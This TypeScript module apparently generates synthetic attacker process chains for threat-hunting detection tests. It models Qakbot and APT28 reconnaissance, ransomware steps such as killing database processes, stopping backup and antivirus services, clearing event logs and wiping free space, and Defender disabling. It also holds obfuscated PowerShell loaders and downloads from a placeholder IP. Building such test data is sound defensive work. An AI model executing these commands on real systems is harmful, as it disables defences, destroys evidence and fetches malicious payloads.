import type { Chain, ChainOptions } from './hp-chains.js';

/**
 * Techniques that come in bursts on one machine within the hour (chains sharing a `burst` run on
 * the same machine at the same hour): Qakbot's discovery from an injected process, APT28's
 * PowerShell reconnaissance, and a ransomware operator's last steps before encryption (killing
 * processes, stopping services, clearing logs, wiping free space). Plus single techniques hunts
 * name: LemonDuck and Jupyter loaders, AnyDesk dropped for remote access, Elise and Equation DLLs.
 */
const burst = (id: number, options: ChainOptions = {}): ChainOptions => ({ ...options, burst: id });

const QAKBOT = burst(1);
const APT28 = burst(2);
const RANSOM = burst(3, { system: true });

const KILLED = [
  'sqlservr.exe',
  'sqlwriter.exe',
  'oracle.exe',
  'ocssd.exe',
  'dbsnmp.exe',
  'synctime.exe',
  'agntsvc.exe',
  'mydesktopqos.exe',
  'isqlplussvc.exe',
  'xfssvccon.exe',
  'mydesktopservice.exe',
  'ocautoupds.exe',
];
const STOPPED = [
  'Veeam Backup Catalog Data Service',
  'MSSQLSERVER',
  'SQLWriter',
  'MSExchangeIS',
  'MSExchangeTransport',
  'BackupExecJobEngine',
  'SstpSvc',
  'VSS',
  'wbengine',
  'Sophos Agent',
  'McAfeeFramework',
  'SAVService',
];
const CLEARED = [
  'Security',
  'System',
  'Application',
  'Setup',
  'Windows PowerShell',
  'Microsoft-Windows-PowerShell/Operational',
  'Microsoft-Windows-Sysmon/Operational',
  'Microsoft-Windows-TaskScheduler/Operational',
  'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational',
  'Microsoft-Windows-Windows Defender/Operational',
  'Microsoft-Windows-WMI-Activity/Operational',
  'Microsoft-Windows-Bits-Client/Operational',
];

/** base64 of UTF-16LE `whoami /all; net group "domain admins" /domain; Get-ADComputer -Filter *`. */
const ENCODED_RECON =
  'dwBoAG8AYQBtAGkAIAAvAGEAbABsADsAIABuAGUAdAAgAGcAcgBvAHUAcAAgACIAZABvAG0AYQBpAG4AIABhAGQAbQBpAG4AcwAiACAALwBkAG8AbQBhAGkAbgA7ACAARwBlAHQALQBBAEQAQwBvAG0AcAB1AHQAZQByACAALQBGAGkAbAB0AGUAcgAgACoA';

export const HP_BURSTS: readonly Chain[] = [
  ...[
    'whoami /all',
    'cmd /c set',
    'arp -a',
    'ipconfig /all',
    'net view /all',
    'nslookup -querytype=ALL -timeout=10 _ldap._tcp.dc._msdcs.contoso.local',
    'net share',
    'route print',
    'netstat -nao',
    'net localgroup',
  ].map((child): Chain => ['explorer.exe', 'mobsync.exe', child, QAKBOT]),
  ...[
    'powershell.exe -w hid -nop -c "Get-Content -Encoding Byte C:\\Users\\Public\\Documents\\notes.txt"',
    'powershell.exe -c "Compress-Archive -Path C:\\Users\\Public\\Documents -DestinationPath C:\\ProgramData\\d.zip"',
    'powershell.exe -c "Get-WinEvent -FilterHashtable @{LogName=\'Security\';Id=4624} -MaxEvents 100"',
    'net.exe time',
    'powershell.exe -c "Get-ADDomainController -Discover"',
    'powershell.exe -c "Get-NetAdapter; Get-DnsClientServerAddress"',
  ].map((child): Chain => ['explorer.exe', 'cmd.exe', child, APT28]),
  ...KILLED.map(
    (p): Chain => ['cmd.exe', 'cmd.exe /c C:\\Windows\\Temp\\kill.bat', `taskkill.exe /F /IM ${p}`, RANSOM],
  ),
  ...STOPPED.map(
    (s): Chain => ['cmd.exe', 'cmd.exe /c C:\\Windows\\Temp\\kill.bat', `net.exe stop "${s}" /y`, RANSOM],
  ),
  ...CLEARED.map(
    (l): Chain => ['cmd.exe', 'cmd.exe /c C:\\Windows\\Temp\\clean.bat', `wevtutil.exe cl "${l}"`, RANSOM],
  ),
  ['cmd.exe', 'cmd.exe /c C:\\Windows\\Temp\\clean.bat', 'cipher.exe /w:C:\\ProgramData', RANSOM],
  ['cmd.exe', 'cmd.exe /c C:\\Windows\\Temp\\clean.bat', 'cipher.exe /w:E:\\', RANSOM],
  ['explorer.exe', 'cmd.exe', `powershell.exe -nop -w hidden -enc ${ENCODED_RECON}`, {}],
  ['explorer.exe', 'powershell.exe', 'net.exe group "ESX Admins" /domain /add', {}],
  [
    'wscript.exe',
    'cmd.exe /c wscript.exe //B C:\\Users\\Public\\Downloads\\invoice.vbs',
    'powershell.exe -w hidden -c "iwr http://198.51.100.23/q.dll -o C:\\ProgramData\\q.dll"',
    {},
  ],
  [
    'services.exe',
    'powershell.exe -c "Set-MpPreference -DisableRealtimeMonitoring 1; Add-MpPreference -ExclusionProcess C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"',
    'MpCmdRun.exe -SignatureUpdate',
    { system: true },
  ],
  [
    'services.exe',
    'cmd.exe /c echo $down_url="http://198.51.100.23";$tmp=$env:tmp;function gmd5($d){[Security.Cryptography.MD5]::Create().ComputeHash($d)};function downloaddata($u){(New-Object Net.WebClient).DownloadData($u)};$d=downloaddata($down_url+"/if.bin");[IO.File]::WriteAllBytes($tmp+"\\if.bin",$d)',
    'powershell.exe -w hidden -nop -',
    { system: true },
  ],
  [
    'explorer.exe',
    'cmd.exe',
    "powershell.exe -command \"$xk='j8H2kQ';$xb=[System.Convert]::FromBase64String([System.IO.File]::ReadAllText($env:APPDATA+'\\a.txt'));remove-item $env:APPDATA\\a.txt;for($i=0;$i -lt $xb.length;$j++){$xb[$i]=$xb[$i] -bxor $xk[$j];$i++;if($i -ge $xk.length){$j=0}};[System.Text.Encoding]::UTF8.GetString($xb)\"",
    {},
  ],
  [
    'explorer.exe',
    'cmd.exe',
    'C:\\ProgramData\\AnyDesk\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent',
    { product: 'AnyDesk', company: 'AnyDesk Software GmbH', original: 'AnyDesk.exe' },
  ],
  [
    'explorer.exe',
    'cmd.exe',
    'C:\\Windows\\SysWOW64\\cmd.exe /c rundll32.exe C:\\Windows\\Caches\\NavShExt.dll,Setting',
    {},
  ],
  ['explorer.exe', 'cmd.exe', 'rundll32.exe C:\\ProgramData\\msvcp.dll,dll_u', {}],
  ['launchd', '/sbin/launchd', '/Users/Shared/.local/screenassistantd', { os: 'macOS' }],
];
